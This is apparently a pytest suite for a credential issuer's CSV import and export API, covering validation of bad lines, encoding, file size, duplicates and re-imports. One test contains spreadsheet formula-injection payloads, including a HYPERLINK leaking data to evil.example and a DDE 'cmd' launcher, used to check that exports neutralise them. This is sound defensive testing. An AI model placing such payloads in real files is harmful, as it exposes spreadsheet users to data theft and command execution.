"""``POST /api/v1/imports`` and ``GET /api/v1/records.csv`` with real CSV files: the sample
cohort, each kind of bad line, all-or-nothing writes, a 10 MB file, a file that is not
UTF-8, formula-injection cells exported back safely, duplicate lines, re-imports."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import create_engine, text

from issuer.records.csv_format import COLUMNS
from tests.conftest import PROGRAM, auth

ROOT = Path(__file__).resolve().parents[3]
SAMPLE = ROOT / "docs" / "sample-cohort.csv"
TEMPLATE = ROOT / "docs" / "import-template.csv"

pytestmark = pytest.mark.db


def post_csv(client: FlaskClient, tokens: dict[str, str], body: bytes, **flags: str) -> Any:
    query = "&".join(f"{k}={v}" for k, v in flags.items())
    return client.post(f"/api/v1/imports?{query}", data=body, content_type="text/csv",
                       headers=auth(tokens["registrar"]))


def practitioners(client: FlaskClient, tokens: dict[str, str]) -> list[dict[str, str]]:
    text = client.get("/api/v1/records.csv", headers=auth(tokens["registrar"])).get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(text)))


def good_row(**changes: str) -> dict[str, str]:
    row = {c: "" for c in COLUMNS}
    row.update({
        "email": "rosa.example@example.org", "given_name": "Rosa", "family_name": "Example",
        "profession": "RN", "license_number": "EXAMPLE-RN-5001", "license_jurisdiction": "US-TX",
        "license_status": "active", "license_expires_on": "2028-01-31", "license_checked_on": "2026-11-01",
        "license_checked_source": "https://www.bon.texas.gov/", "program_id": PROGRAM, "kind": "didactic",
        "date": "2026-10-02", "module": "pharmacology", "hours": "3.0",
    })
    row.update(changes)
    return row


def to_csv(*rows: dict[str, str], columns: tuple[str, ...] = COLUMNS) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, columns, lineterminator="\r\n")
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    return out.getvalue().encode("utf-8")


def test_sample_cohort_dry_run_then_import_then_reimport(issuer_client: FlaskClient,
                                                         tokens: dict[str, str]) -> None:
    raw = SAMPLE.read_bytes()
    dry = post_csv(issuer_client, tokens, raw, dry_run="true")
    assert dry.status_code == 200, dry.json
    assert dry.json["written"] is False
    assert dry.json["summary"] == {"created": 16, "updated": 125, "unchanged": 0, "refused": 0}
    assert dry.json["lines"][0]["line"] == 2 and dry.json["lines"][0]["status"] == "created"
    assert practitioners(issuer_client, tokens) == []

    real = post_csv(issuer_client, tokens, raw)
    assert real.status_code == 200 and real.json["written"] is True
    assert real.json["summary"] == dry.json["summary"]
    assert len({r["license_number"] for r in practitioners(issuer_client, tokens)}) == 16

    again = post_csv(issuer_client, tokens, raw)
    assert again.json["summary"] == {"created": 0, "updated": 0, "unchanged": 141, "refused": 0}
    exported = issuer_client.get("/api/v1/records.csv", headers=auth(tokens["registrar"]))
    assert exported.mimetype == "text/csv"
    reimported = post_csv(issuer_client, tokens, exported.get_data())
    assert reimported.json["summary"]["created"] == reimported.json["summary"]["updated"] == 0


def test_the_template_imports_cleanly(issuer_client: FlaskClient, tokens: dict[str, str]) -> None:
    reply = post_csv(issuer_client, tokens, TEMPLATE.read_bytes(), dry_run="true")
    assert reply.status_code == 200, reply.json
    assert reply.json["summary"]["refused"] == 0


def test_eligibility_of_the_imported_cohort_says_why(
    issuer_client: FlaskClient, tokens: dict[str, str]
) -> None:
    lines = post_csv(issuer_client, tokens, SAMPLE.read_bytes()).json["lines"]
    ids = {line["license"]: line["practitioner_id"] for line in lines}
    pid = ids["US-TX EXAMPLE-RN-0005"]
    reply = issuer_client.get(f"/api/v1/practitioners/{pid}/eligibility?program={PROGRAM}",
                              headers=auth(tokens["certifier"]))
    assert reply.json["eligible"] is False
    assert reply.json["unmet"] == [{"id": "hands_on.supervised_injections", "ok": False,
                                    "detail": "supervised injections: 14 of 20"}]


BAD_LINES = [
    pytest.param({"email": "not-an-email"}, "email", "String should match pattern", id="bad-email"),
    pytest.param({"profession": "EMT"}, "profession", "Input should be", id="unknown-profession"),
    pytest.param({"license_jurisdiction": "Texas"}, "license_jurisdiction", "pattern", id="bad-jurisdiction"),
    pytest.param({"license_status": "lapsed"}, "license_status", "Input should be", id="bad-license-status"),
    pytest.param({"license_expires_on": "31/01/2028"}, "license_expires_on", "date", id="bad-date-format"),
    pytest.param({"license_checked_source": "bon.texas.gov"}, "license_checked_source", "pattern",
                 id="source-not-a-url"),
    pytest.param({"kind": "webinar"}, "kind", "unknown kind 'webinar'", id="unknown-kind"),
    pytest.param({"program_id": "no-such-program"}, "program_id", "unknown program", id="unknown-program"),
    pytest.param({"module": "botany"}, "module", "Input should be", id="unknown-module"),
    pytest.param({"hours": "0"}, "hours", "greater than 0", id="zero-hours"),
    pytest.param({"hours": "three"}, "hours", "valid number", id="hours-not-a-number"),
    pytest.param({"date": "2027-01-01"}, "date", "date is in the future", id="future-date"),
    pytest.param({"date": ""}, "date", "Input should be a valid date", id="missing-date"),
    pytest.param({"score": "90"}, "score", "not a field of didactic records", id="field-of-another-kind"),
    pytest.param({"kind": "written_exam", "module": "", "hours": "", "score": "101", "max_score": "100"},
                 "", "score is higher than max_score", id="score-above-max"),
    pytest.param({"kind": "", "module": "pharmacology"}, "kind", "required when record columns are filled",
                 id="record-columns-without-kind"),
    pytest.param({"given_name": "x" * 1001}, "given_name", "longer than 1000 characters", id="cell-too-long"),
]


@pytest.mark.parametrize(("change", "field", "detail"), BAD_LINES)
def test_each_kind_of_bad_line_is_refused_naming_field_and_reason(
    issuer_client: FlaskClient, tokens: dict[str, str], change: dict[str, str], field: str, detail: str
) -> None:
    other = good_row(license_number="EXAMPLE-RN-5002", email="ok@example.org")
    raw = to_csv(other, good_row(**change))
    dry = post_csv(issuer_client, tokens, raw, dry_run="true")
    assert dry.status_code == 200
    first, second = dry.json["lines"]
    assert first["status"] == "created"
    assert second["status"] == "refused" and second["line"] == 3
    assert any(e["field"] == field and detail in e["detail"] for e in second["errors"]), second["errors"]

    refused = post_csv(issuer_client, tokens, raw)
    assert refused.status_code == 422
    assert refused.json["type"].endswith("import-refused")
    assert refused.json["written"] is False
    assert practitioners(issuer_client, tokens) == []

    skipped = post_csv(issuer_client, tokens, raw, skip_invalid="true")
    assert skipped.status_code == 200 and skipped.json["written"] is True
    assert [r["license_number"] for r in practitioners(issuer_client, tokens)] == ["EXAMPLE-RN-5002"]


def test_a_line_that_contradicts_the_registered_practitioner_is_refused(
    issuer_client: FlaskClient, tokens: dict[str, str]
) -> None:
    raw = to_csv(good_row(), good_row(module="complications", hours="2", email="someone.else@example.org"))
    line = post_csv(issuer_client, tokens, raw, dry_run="true").json["lines"][1]
    assert line["status"] == "refused"
    assert line["errors"][0]["field"] == "email"
    assert "already registered for this license" in line["errors"][0]["detail"]


def test_more_cells_than_columns_is_refused(issuer_client: FlaskClient, tokens: dict[str, str]) -> None:
    raw = to_csv(good_row()) + b"a,b,c," + b"x," * len(COLUMNS) + b"\r\n"
    line = post_csv(issuer_client, tokens, raw, dry_run="true").json["lines"][1]
    assert line["errors"] == [{"field": "", "detail": "more cells than header columns"}]


def test_duplicate_lines_create_one_record(issuer_client: FlaskClient, tokens: dict[str, str]) -> None:
    raw = to_csv(good_row(), good_row(), good_row(module="complications", hours="2"))
    reply = post_csv(issuer_client, tokens, raw)
    assert [(x["status"], x["note"]) for x in reply.json["lines"]] == [
        ("created", ""), ("unchanged", "same record as line 2"), ("updated", "")]
    pid = reply.json["lines"][0]["practitioner_id"]
    records = issuer_client.get(f"/api/v1/practitioners/{pid}", headers=auth(tokens["registrar"])).json
    assert sorted(r["module"] for r in records["records"]) == ["complications", "pharmacology"]
    assert post_csv(issuer_client, tokens, raw).json["summary"]["unchanged"] == 3


def test_distinct_record_refs_keep_identical_sessions_apart(issuer_client: FlaskClient,
                                                            tokens: dict[str, str]) -> None:
    raw = to_csv(good_row(record_ref="LMS-1"), good_row(record_ref="LMS-2"))
    assert [x["status"] for x in post_csv(issuer_client, tokens, raw).json["lines"]] == ["created", "updated"]


def test_a_newer_license_check_in_the_file_is_recorded(
    issuer_client: FlaskClient, tokens: dict[str, str]
) -> None:
    post_csv(issuer_client, tokens, to_csv(good_row()))
    newer = good_row(license_status="suspended", license_checked_on="2026-11-20", kind="", module="",
                     hours="", program_id="", date="")
    reply = post_csv(issuer_client, tokens, to_csv(newer))
    assert reply.json["lines"][0]["status"] == "updated"
    pid = reply.json["lines"][0]["practitioner_id"]
    body = issuer_client.get(f"/api/v1/practitioners/{pid}", headers=auth(tokens["registrar"])).json
    assert body["license"]["status"] == "suspended"
    assert len(body["license_checks"]) == 2


def test_formula_cells_are_stored_as_text_and_exported_neutralised(
    issuer_client: FlaskClient, tokens: dict[str, str]
) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    raw = to_csv(good_row(given_name=evil, family_name="@SUM(1+1)"),
                 good_row(given_name=evil, family_name="@SUM(1+1)", kind="hands_on", module="", hours="2",
                          supervised_injections="4", live_models="1", supervisor="+cmd|' /C calc'!A0",
                          supervisor_credential="-2+3", date="2026-10-03"))
    assert post_csv(issuer_client, tokens, raw).json["summary"]["refused"] == 0
    reply = issuer_client.get("/api/v1/records.csv", headers=auth(tokens["registrar"]))
    exported = reply.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert {r["given_name"] for r in rows} == {"'" + evil}
    assert {r["family_name"] for r in rows} == {"'@SUM(1+1)"}
    hands_on = next(r for r in rows if r["kind"] == "hands_on")
    assert hands_on["supervisor"] == "'+cmd|' /C calc'!A0"
    assert hands_on["supervisor_credential"] == "'-2+3"
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    again = post_csv(issuer_client, tokens, exported.encode("utf-8"))
    assert again.json["summary"] == {"created": 0, "updated": 0, "unchanged": 2, "refused": 0}


def test_a_file_that_is_not_utf8_is_refused_naming_line_and_byte(issuer_client: FlaskClient,
                                                                 tokens: dict[str, str]) -> None:
    raw = to_csv(good_row(), good_row(given_name="José", module="complications")).replace(
        "José".encode(), "José".encode("latin-1"))
    reply = post_csv(issuer_client, tokens, raw)
    assert reply.status_code == 422
    assert "line 3: byte 0xE9 at offset" in reply.json["detail"]
    assert "not UTF-8" in reply.json["detail"]
    assert practitioners(issuer_client, tokens) == []


def test_a_utf8_byte_order_mark_is_fine(issuer_client: FlaskClient, tokens: dict[str, str]) -> None:
    reply = post_csv(issuer_client, tokens, b"\xef\xbb\xbf" + to_csv(good_row()), dry_run="true")
    assert reply.json["summary"]["created"] == 1


@pytest.mark.parametrize(("header", "detail"), [
    (COLUMNS + ("favourite_colour",), "unknown columns ['favourite_colour']"),
    (tuple(c for c in COLUMNS if c != "email"), "missing columns ['email']"),
])
def test_a_bad_header_is_refused(issuer_client: FlaskClient, tokens: dict[str, str],
                                 header: tuple[str, ...], detail: str) -> None:
    row = {k: v for k, v in good_row().items() if k in header}
    reply = post_csv(issuer_client, tokens, to_csv(row, columns=header))
    assert reply.status_code == 422
    assert detail in reply.json["detail"]


def test_an_empty_file_is_refused(issuer_client: FlaskClient, tokens: dict[str, str]) -> None:
    assert post_csv(issuer_client, tokens, b"").status_code == 422


def test_import_needs_csv_and_the_registrar_role(issuer_client: FlaskClient, tokens: dict[str, str]) -> None:
    as_json = issuer_client.post("/api/v1/imports", json={}, headers=auth(tokens["registrar"]))
    assert as_json.status_code == 400
    as_certifier = issuer_client.post("/api/v1/imports", data=to_csv(good_row()), content_type="text/csv",
                                      headers=auth(tokens["certifier"]))
    assert as_certifier.status_code == 403
    assert post_csv(issuer_client, tokens, to_csv(good_row()), dry_run="maybe").status_code == 422


def _big_file(path: Path, target_bytes: int) -> int:
    """A realistic cohort file of ``target_bytes``: many practitioners, nine records each."""
    header = to_csv().decode()
    template = SAMPLE.read_text("utf-8").splitlines()[1:10]  # one complete practitioner
    rows = 0
    with path.open("w", encoding="utf-8", newline="") as out:
        out.write(header)
        size = len(header)
        n = 0
        while size < target_bytes:
            n += 1
            for line in template:
                text = line.replace("EXAMPLE-RN-0001", f"EXAMPLE-RN-{n:06d}").replace(
                    "maria.alvarez@", f"maria.alvarez.{n}@") + "\r\n"
                out.write(text)
                size += len(text)
                rows += 1
    return rows


def test_a_10_mb_file_is_imported_in_one_go(issuer_client: FlaskClient, tokens: dict[str, str],
                                            tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "cohort-10mb.csv"
    rows = _big_file(path, 10 * 1000 * 1000)
    started = time.perf_counter()
    reply = post_csv(issuer_client, tokens, path.read_bytes())
    elapsed = time.perf_counter() - started
    assert reply.status_code == 200, reply.json.get("detail")
    assert reply.json["summary"]["refused"] == 0
    assert reply.json["summary"]["created"] == rows // 9
    with capsys.disabled():
        print(f"\n10 MB import: {rows} rows in {elapsed:.1f} s ({rows / elapsed:.0f} rows/s)")


def test_a_file_over_20_mib_is_refused_with_413(issuer_client: FlaskClient, tokens: dict[str, str]) -> None:
    reply = post_csv(issuer_client, tokens, to_csv() + b"x" * (20 * 1024 * 1024))
    assert reply.status_code == 413
    assert reply.json["detail"] == "the CSV file is larger than 20 MiB; split it"
    assert reply.mimetype == "application/problem+json"


def test_an_import_leaves_postgresql_planning_with_fresh_statistics(
    issuer_client: FlaskClient, tokens: dict[str, str], database_url: str
) -> None:
    """An import that changes much of a table analyses it, so that a bulk run or a search
    right after plans its reads for the table as it now is (autovacuum may be off, or late)."""
    if not database_url.startswith("postgresql"):
        pytest.skip("PostgreSQL's planner statistics")
    rows = [good_row(email=f"p{n}@example.org", license_number=f"EXAMPLE-RN-{6000 + n}") for n in range(40)]
    assert post_csv(issuer_client, tokens, to_csv(*rows)).status_code == 200
    engine = create_engine(database_url)
    try:
        tables = ("practitioners", "records")
        with engine.connect() as conn:
            estimate = text("SELECT reltuples FROM pg_class WHERE oid = to_regclass(:t)")
            planned = {table: conn.execute(estimate, {"t": table}).scalar_one() for table in tables}
            stored = {table: conn.execute(text(f"SELECT count(*) FROM {table}")).scalar_one()  # noqa: S608
                      for table in tables}
    finally:
        engine.dispose()
    assert planned == stored and stored["records"] >= 40
